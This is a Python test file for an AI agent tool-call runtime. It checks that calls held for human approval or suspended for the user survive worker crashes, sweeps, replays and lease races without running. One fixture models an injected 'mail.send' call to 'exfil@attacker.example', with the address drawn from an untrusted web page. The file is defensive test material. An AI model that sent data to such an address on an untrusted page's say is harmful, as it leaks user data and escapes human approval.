"""Decision 4 with 11 and 16: a crash never skips an approval hold or a control suspension.

A worker dies right after step 6 recorded a call whose decision is approval (``mail.send``, an
EXTERNAL_WRITE NON_IDEMPOTENT tool with an argument from an EXTERNAL_UNTRUSTED page) or control
(``conversation.ask_user``); another worker picks the row up by a sweep, or by a replay of the
step. Neither may run the call: it opens the hold or the suspension the recorded decision asks
for. A resumed control call that a crash interrupts runs, once recovered, with its answer.
(The crash cells of ``test_d04_recovery`` judge D4.14 and D4.15 at every crash point up to step 7.)

D4.17 is judged by two workers, each in its own thread, event loop and connections, submitting
the same untrusted consequential step at the same instant (a barrier), the exploration profile's
lease races / 20 times (at least 10; each race of the reference's old adopt path executed the
call): no race may execute the call, and exactly one approval_requested event may be recorded.

A replay of the step follows the row's recorded decision, not its own request's labels: a call recorded for approval
(an argument from the EXTERNAL_UNTRUSTED page), held and alive or its worker dead after step 6 or step 7, replayed
with the same labels or with trusted ones (USER context, the argument from the USER item), by a replay alone or a
sweep then a replay, stays held and unexecuted with one approval_requested (D4.14); a call recorded as allowed whose
worker died after step 6 or 7, replayed with the same labels or with untrusted ones, runs once and is never held
(D4.17).
"""

from __future__ import annotations

import pytest

from toolproof.fakes import AskUserTool, WriteTool
from toolproof.spec import (
    CrashPlan,
    CrashPoint,
    Disposition,
    EventKind,
    InvocationStatus,
    ProposedCall,
    RecoveryVia,
    SimulatedCrash,
    Success,
    Suspended,
    Tool,
)

from ._exploration import selected_exploration
from ._harness import USER_ITEM, Harness, describe
from ._recovery import UNTRUSTED_PAGE, postgres_url, submit_race

LEASE_S = 60.0
PAGE = UNTRUSTED_PAGE
MAIL = ProposedCall(
    call_id="call-1", tool_name="mail.send", arguments={"to": "exfil@attacker.example"}, provenance={"to": ["page-1"]}
)
ASK = ProposedCall(
    call_id="call-1",
    tool_name="conversation.ask_user",
    arguments={"question": "Which colour?"},
    provenance={"question": [USER_ITEM.id]},
)


def _mail(harness: Harness) -> WriteTool:
    return WriteTool(harness.world, name="mail.send", input_schema={"type": "object"})


async def _die(harness: Harness, rule: str, tool: Tool, call: ProposedCall, point: CrashPoint) -> None:
    """Submit ``call`` in a worker that dies at ``point``."""
    async with harness.open(tool, crash=CrashPlan(point=point), lease_s=LEASE_S) as session:
        try:
            await session.step([call], step_number=1, context=[USER_ITEM, PAGE])
        except (SimulatedCrash, BaseExceptionGroup):
            harness.log.append(f"  the worker died at {point.value}")
            return
    harness.fail(rule, f"the worker did not die at {point.value}: the implementation ignored its crash plan")


async def _recover(harness: Harness, tool: Tool, call: ProposedCall, via: RecoveryVia) -> Disposition:
    """Another worker, after the lease: a sweep then a replay of the step, or the replay alone."""
    harness.clock.advance(LEASE_S + 1)
    harness.log.append(f"another worker, {LEASE_S:.0f}+1 s later, recovers by {via.value}")
    async with harness.open(tool, lease_s=LEASE_S) as session:
        if via is RecoveryVia.SWEEP:
            await session.sweep()
        [disposition] = await session.step([call], step_number=1, context=[USER_ITEM, PAGE])
    return disposition


@pytest.mark.rules("D4.14")
@pytest.mark.parametrize("via", list(RecoveryVia))
async def test_untrusted_call_recorded_before_a_crash_is_held_not_run(harness: Harness, via: RecoveryVia) -> None:
    await _die(harness, "D4.14", _mail(harness), MAIL, CrashPoint.AFTER_RECORD)
    d = await _recover(harness, _mail(harness), MAIL, via)
    async with harness.open(_mail(harness), lease_s=LEASE_S) as session:
        row = next(iter(await session.rows()), None)
        kinds = [e.kind for e in await session.events()]
    harness.expect(
        "D4.14",
        isinstance(d, Suspended) and d.reason == "approval" and not harness.world.executions,
        f"a call recorded for approval, found by a {via.value} after its worker died, was answered {describe(d)} "
        f"with {len(harness.world.executions)} execution(s); it must wait for approval",
    )
    harness.expect(
        "D4.14",
        row is not None and row.status is InvocationStatus.AWAITING_APPROVAL,
        f"its row is {row.status.value if row else 'gone'}; expected AWAITING_APPROVAL",
    )
    harness.expect(
        "D4.14",
        kinds.count(EventKind.APPROVAL_REQUESTED.value) == 1,
        f"events {kinds}: expected one {EventKind.APPROVAL_REQUESTED.value}",
    )
    async with harness.open(_mail(harness), lease_s=LEASE_S) as session:
        done = await session.resolve_approval(d.invocation_id, approved=True)
    harness.success("D4.14", done, "the call approved after recovery")
    harness.expect("D4.14", len(harness.world.effects) == 1, f"approval led to {len(harness.world.effects)} effect(s)")


@pytest.mark.rules("D4.15")
@pytest.mark.parametrize("via", list(RecoveryVia))
async def test_control_call_recorded_before_a_crash_is_suspended_not_run(harness: Harness, via: RecoveryVia) -> None:
    await _die(harness, "D4.15", AskUserTool(harness.world), ASK, CrashPoint.AFTER_RECORD)
    d = await _recover(harness, AskUserTool(harness.world), ASK, via)
    async with harness.open(AskUserTool(harness.world), lease_s=LEASE_S) as session:
        row = next(iter(await session.rows()), None)
        kinds = [e.kind for e in await session.events()]
    harness.expect(
        "D4.15",
        isinstance(d, Suspended) and d.reason == "control" and not harness.world.executions,
        f"a control call recorded before its worker died, found by a {via.value}, was answered {describe(d)} with "
        f"{len(harness.world.executions)} execution(s); it must be suspended until resumed",
    )
    harness.expect(
        "D4.15",
        row is not None and row.suspended and kinds.count(EventKind.SUSPENDED.value) == 1,
        f"its row is suspended={row.suspended if row else None}, events {kinds}; expected the marker and one "
        f"{EventKind.SUSPENDED.value}",
    )


@pytest.mark.rules("D4.16")
@pytest.mark.parametrize("via", list(RecoveryVia))
async def test_resumed_control_call_keeps_its_answer_through_a_crash(harness: Harness, via: RecoveryVia) -> None:
    async with harness.open(AskUserTool(harness.world), lease_s=LEASE_S) as session:
        [held] = await session.step([ASK], step_number=1, context=[USER_ITEM, PAGE])
    if not isinstance(held, Suspended):
        harness.fail("D4.16", f"the control call was answered {describe(held)}; expected a suspension")
    async with harness.open(AskUserTool(harness.world), crash=CrashPlan(point=CrashPoint.AFTER_CLAIM)) as session:
        try:
            await session.resume(held.invocation_id, "blue")
            harness.fail("D4.16", "the resuming worker did not die after its claim: it ignored its crash plan")
        except (SimulatedCrash, BaseExceptionGroup):
            harness.log.append("  the resuming worker died after its claim")
    d = harness.success("D4.16", await _recover(harness, AskUserTool(harness.world), ASK, via), "the recovered call")
    harness.expect(
        "D4.16",
        [e.text for e in d.content] == ["blue"],
        f"the resumed control call, recovered by a {via.value} after a crash, delivered "
        f"{[e.text for e in d.content]!r}; expected the answer it was resumed with, ['blue']",
    )


def _races() -> int:
    return max(10, selected_exploration().races // 20)


@pytest.mark.rules("D4.17")
@pytest.mark.parametrize(
    "backend", [pytest.param("sqlite"), pytest.param("postgres", marks=[pytest.mark.needs_database])]
)
async def test_two_first_submissions_of_an_untrusted_call_both_wait_for_approval(
    harness: Harness, database_url: str | None, backend: str
) -> None:
    store_url = postgres_url(harness, database_url) if backend == "postgres" and database_url else None
    races = await submit_race(harness, store_url, _races())
    wrong = [
        (race, r)
        for race, r in enumerate(races)
        if r.executions or r.holds != 1 or r.answers != ("SUSPENDED approval", "SUSPENDED approval")
    ]
    harness.expect(
        "D4.17",
        not wrong,
        f"in {len(wrong)} of {len(races)} races of two first submissions of one untrusted consequential call, the "
        f"call was not held once and left unexecuted: {wrong[:5]}; the worker that finds the row recorded must "
        "follow its recorded decision",
    )


TRUSTED = ([USER_ITEM], {"to": [USER_ITEM.id]})
"""A request whose labels allow the consequential call: USER context, the argument from the USER item."""
UNTRUSTED = ([USER_ITEM, PAGE], {"to": [PAGE.id]})
"""A request whose labels hold it for approval: the argument from the EXTERNAL_UNTRUSTED page."""


REPLAYED_BY = {False: "replay", True: "swept-then-replay"}


# One scenario per rule: a witness is stopped at a scenario's first failed cell, so each rule gets cells of its own.
@pytest.mark.rules("D4.14")
@pytest.mark.parametrize("swept", [False, True], ids=list(REPLAYED_BY.values()))
@pytest.mark.parametrize("labels", ["same", "other"])
@pytest.mark.parametrize(
    "point", [None, CrashPoint.AFTER_RECORD, CrashPoint.AFTER_HOLD], ids=["alive", "after_record", "after_hold"]
)
async def test_a_replay_keeps_a_recorded_hold_whatever_its_own_labels(
    harness: Harness, point: CrashPoint | None, labels: str, swept: bool
) -> None:
    await _replay_with_labels(harness, "approval", point, labels, swept)


@pytest.mark.rules("D4.17")
@pytest.mark.parametrize("swept", [False, True], ids=list(REPLAYED_BY.values()))
@pytest.mark.parametrize("labels", ["same", "other"])
@pytest.mark.parametrize("point", [CrashPoint.AFTER_RECORD, CrashPoint.AFTER_HOLD], ids=["after_record", "after_hold"])
async def test_a_replay_runs_a_call_recorded_as_allowed_whatever_its_own_labels(
    harness: Harness, point: CrashPoint, labels: str, swept: bool
) -> None:
    await _replay_with_labels(harness, "allow", point, labels, swept)


async def _replay_with_labels(
    harness: Harness, recorded: str, point: CrashPoint | None, labels: str, swept: bool
) -> None:
    """Record the call as ``recorded`` decides (its worker alive, or dead at ``point``), then, a lease later, replay
    the step (after a sweep if ``swept``) with the ``same`` labels or the ``other`` ones: the replay is the same call
    (same run, step, call_id, arguments: the same key) and follows its row, so trusted labels never release a
    recorded hold, and untrusted ones never hold a call recorded as allowed."""
    rule = "D4.14" if recorded == "approval" else "D4.17"
    first = UNTRUSTED if recorded == "approval" else TRUSTED
    flipped = TRUSTED if recorded == "approval" else UNTRUSTED
    context, provenance = first if labels == "same" else flipped
    call = MAIL.model_copy(update={"arguments": {"to": "finance-team@example.com"}, "provenance": first[1]})
    replayed = call.model_copy(update={"provenance": provenance})
    async with harness.open(_mail(harness), crash=CrashPlan(point=point) if point else None, lease_s=LEASE_S) as s:
        try:
            [d] = await s.step([call], step_number=1, context=first[0])
            if point is not None:
                harness.fail(
                    rule, f"the worker did not die at {point.value}: the implementation ignored its crash plan"
                )
            if not isinstance(d, Suspended):
                harness.fail(rule, f"the untrusted consequential call was answered {describe(d)}; expected a hold")
        except (SimulatedCrash, BaseExceptionGroup):
            harness.log.append(f"  the worker died at {point.value if point else None}")
    harness.clock.advance(LEASE_S + 1)
    shown = ", ".join(f"{i.id}:{i.trust.value}" for i in context)
    harness.log.append(f"another worker{' sweeps, then' if swept else ''} replays the step with context [{shown}]")
    async with harness.open(_mail(harness), lease_s=LEASE_S) as session:
        if swept:
            await session.sweep()
        [d] = await session.step([replayed], step_number=1, context=context)
        kinds = [e.kind for e in await session.events()]
    held = kinds.count(EventKind.APPROVAL_REQUESTED.value)
    ran = len(harness.world.executions)
    how = f"{'after a crash at ' + point.value if point else 'held and alive'}{', swept,' if swept else ''}"
    if recorded == "approval":
        harness.expect(
            rule,
            isinstance(d, Suspended) and d.reason == "approval" and not ran and held == 1,
            f"a call recorded for approval ({how}) replayed with {labels} labels ({shown}) was answered {describe(d)} "
            f"with {ran} execution(s) and {held} approval_requested; it must stay held until approved",
        )
    else:
        harness.expect(
            rule,
            isinstance(d, Success) and len(harness.world.effects) == 1 and not held,
            f"a call recorded as allowed ({how}) replayed with {labels} labels ({shown}) was answered {describe(d)} "
            f"with {len(harness.world.effects)} effect(s) and {held} approval_requested; it follows its recorded "
            "decision and runs once",
        )
